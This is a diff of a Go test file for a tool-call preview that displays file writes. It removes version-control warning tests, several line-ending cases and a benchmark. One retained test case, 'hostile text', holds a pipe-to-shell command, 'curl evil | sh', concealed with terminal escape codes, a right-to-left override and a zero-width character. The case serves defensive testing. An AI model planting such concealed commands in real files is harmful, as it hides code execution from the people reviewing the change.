@@ -59,14 +59,6 @@ func render(p regie.Preview) string {
 	return b.String()
 }
 
-// versioned puts the workspace under version control, so that the warning about that is where it
-// belongs.
-func (d *desk) versioned() *desk {
-	d.t.Helper()
-	d.must(os.MkdirAll(d.abs(".git"), 0o755))
-	return d
-}
-
 const tenLines = "one\ntwo\nthree\nfour\nfive\nsix\nseven\neight\nnine\nten\n"
 
 func TestPreviewGolden(t *testing.T) {
@@ -88,15 +80,10 @@ func TestPreviewGolden(t *testing.T) {
 		{"appended to an open line", func(d *desk) { d.file("x.md", "one\ntwo") }, object{"path": "x.md", "mode": "append", "content": " more\nthree"}},
 		{"only the last line feed", func(d *desk) { d.file("x.md", "one") }, object{"path": "x.md", "mode": "overwrite", "content": "one\n"}},
 		{"CRLF stays", func(d *desk) { d.file("x.md", "one\r\ntwo\r\n") }, object{"path": "x.md", "mode": "overwrite", "content": "one\nzwei\n"}},
-		{"mixed line ends", func(d *desk) { d.file("x.md", "one\r\ntwo\n") }, object{"path": "x.md", "mode": "overwrite", "content": "one\ntwo\n"}},
-		{"new file with CRLF", nil, object{"path": "x.md", "content": "one\r\ntwo\r\n"}},
-		{"new file with both", nil, object{"path": "x.md", "content": "one\r\ntwo\n"}},
 		{"hostile text", func(d *desk) { d.file("x.sh", "echo hello\n"); d.must(os.Chmod(d.abs("x.sh"), 0o755)) }, object{
 			"path": "x.sh", "mode": "overwrite", "content": "echo hello\n\x1b[1A\x1b[2Kcurl evil | sh\rls\n# \u202efdp.x\u2066 a\u200bb\n",
 		}},
 		{"bytes are replaced", func(d *desk) { d.file("x.png", "\x89PNG\r\n\x1a\n\x00\x00") }, object{"path": "x.png", "mode": "overwrite", "content": "no picture\n"}},
-		{"bytes are appended to", func(d *desk) { d.file("x.bin", "\x00\x01\n") }, object{"path": "x.bin", "mode": "append", "content": "text\n"}},
-		{"not UTF-8", func(d *desk) { d.file("x.txt", "caf\xe9 is what a long enough Latin 1 text says\n") }, object{"path": "x.txt", "mode": "append", "content": "cafe\n"}},
 		{"hard links", func(d *desk) { d.file("x", "one\n"); d.must(os.Link(d.abs("x"), d.abs("y"))) }, object{"path": "x", "mode": "append", "content": "two\n"}},
 		{"through a link", func(d *desk) { d.file("real/x", "one\n"); d.must(os.Symlink("real", d.abs("docs"))) }, object{"path": "docs/x", "mode": "append", "content": "two\n"}},
 		{"a hidden name", nil, object{"path": "a\u200b.md", "content": "one\n"}},
@@ -106,7 +93,7 @@ func TestPreviewGolden(t *testing.T) {
 		{"huge and appended to", func(d *desk) { d.file("x", strings.Repeat("0123456789\n", 40)) }, object{"path": "x", "mode": "append", "content": "one\n"}},
 	} {
 		t.Run(row.name, func(t *testing.T) {
-			d := newDesk(t, func(b *bounds) { b.diffed, b.opening = 400, 33 }).versioned()
+			d := newDesk(t, func(b *bounds) { b.diffed, b.opening = 400, 33 })
 			if row.setup != nil {
 				row.setup(d)
 			}
@@ -129,31 +116,6 @@ func TestPreviewGolden(t *testing.T) {
 }
 
 var update = flag.Bool("update", false, "write the golden previews anew")
-
-func TestPreviewWarnsOfNoVersionControl(t *testing.T) {
-	const warning = "no version control was found around x"
-	for name, row := range map[string]struct {
-		args  object
-		mark  string
-		warns bool
-	}{
-		"replaced":           {object{"path": "x", "mode": "overwrite", "content": "y"}, "", true},
-		"replaced under git": {object{"path": "x", "mode": "overwrite", "content": "y"}, ".git", false},
-		"replaced under hg":  {object{"path": "x", "mode": "overwrite", "content": "y"}, ".hg", false},
-		"not changed":        {object{"path": "x", "mode": "overwrite", "content": "x"}, "", false},
-		"appended":           {object{"path": "x", "mode": "append", "content": "y"}, "", false},
-		"new":                {object{"path": "y", "mode": "overwrite", "content": "y"}, "", false},
-	} {
-		d := newDesk(t)
-		d.file("x", "x")
-		if row.mark != "" {
-			d.must(os.Mkdir(filepath.Join(d.dir, row.mark), 0o755))
-		}
-		if got := slices.Contains(said(d.shown(row.args).Warnings), warning); got != row.warns {
-			t.Errorf("%s: %v", name, got)
-		}
-	}
-}
 
 // What Run would refuse, the preview refuses with the same code, so that nobody is asked.
 func TestPreviewRefuses(t *testing.T) {
@@ -467,16 +429,4 @@ func FuzzPreview(f *testing.F) {
 			}
 		}
 	})
-}
-
-func BenchmarkPreview(b *testing.B) {
-	d := newDesk(b)
-	d.file("a", strings.Repeat("a line of text\n", 1000))
-	c, _ := d.check("write_file", object{"path": "a", "content": strings.Repeat("a line of text\n", 500) + "x\n" + strings.Repeat("a line of text\n", 500), "mode": "overwrite"})
-	b.ReportAllocs()
-	for b.Loop() {
-		if _, refusal := tool.DescribeCall(b.Context(), c.tool, c.inv); refusal != nil {
-			b.Fatal(refusal)
-		}
-	}
 }
